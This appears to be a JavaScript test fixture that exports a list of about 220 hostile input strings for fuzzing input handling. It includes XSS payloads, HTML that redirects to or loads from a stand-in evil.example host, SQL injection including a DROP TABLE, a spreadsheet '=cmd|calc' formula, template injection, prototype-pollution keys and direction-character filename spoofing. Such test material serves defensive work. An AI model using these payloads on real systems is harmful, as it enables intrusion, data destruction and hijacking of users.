/**
 * Two hundred texts that want to be more than text: markup, scripts, addresses, styles, templates, terminal codes,
 * direction characters, formulas, statements, formats, broken and endless ones.
 */

const markup = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "'><iframe src=javascript:alert(1)>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<body onload=alert(1)>',
  '<math><mtext><style><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{display:none}</style>',
  '<form action=//evil.example><button>x',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>">',
];
const schemes = [
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:x',
  '//evil.example/',
];
const templates = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{7*7}',
  '<%= 7*7 %>',
  '`${alert(1)}`',
  '%s%s%n',
  '{0}',
];
const terminal = [
  '\u001b[31mred\u001b[0m\u0007',
  '\u001b]0;title\u0007',
  '\u009b31m',
  'a\rb',
  'a\bb',
  '\u0000nul',
];
const directions = [
  '\u202egnp.exe',
  '\u2066left\u2069',
  '\u200bzero\u200bwidth',
  'a\u0301\u0301\u0301',
  '\ufeffbom',
];
const formulas = [
  '=cmd|calc',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '=HYPERLINK("//evil.example")',
  '|x',
  '%0a=1',
];
const statements = [
  "' OR 1=1 --",
  '"; DROP TABLE records; --',
  '`records`',
  '\\',
  "\\'",
  '/* x */',
  '{x:String}',
];
const searches = ['level:', '(', '"', 'a:b | stats count()', 'or', '-', '*', '? * ?', 'time:[', 'x:\\'];
const names = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'a.b.c',
  '.',
  '..',
  '',
  ' ',
  'null',
  'NaN',
];
const long = [
  'x'.repeat(5_000),
  '가'.repeat(2_000),
  '<b>'.repeat(500),
  `${'a '.repeat(1_000)}`,
  'line\n'.repeat(300),
];
const unusual = ['👨‍👩‍👧‍👦', '한글', '漢字', 'ﷺ', '\u{1F4A9}', '１２３', 'ａｌｅｒｔ', 'İ', 'ß', '\u00a0'];

const seeds = [
  markup,
  schemes,
  templates,
  terminal,
  directions,
  formulas,
  statements,
  searches,
  names,
  long,
  unusual,
];
const events = [
  'onclick',
  'onerror',
  'onload',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'onpointerenter',
];
const tags = [
  'img',
  'svg',
  'video',
  'audio',
  'iframe',
  'input',
  'marquee',
  'body',
  'details',
  'object',
  'embed',
  'x',
];

const woven = tags.flatMap((tag) =>
  events.map((event) => `"'><${tag} ${event}="alert('${tag}')" src=x style="x:y">`),
);

export const HOSTILE: readonly string[] = [
  ...seeds.flat(),
  ...woven,
  ...seeds.flat().map((text) => `ok ${text}`),
].slice(0, 220);
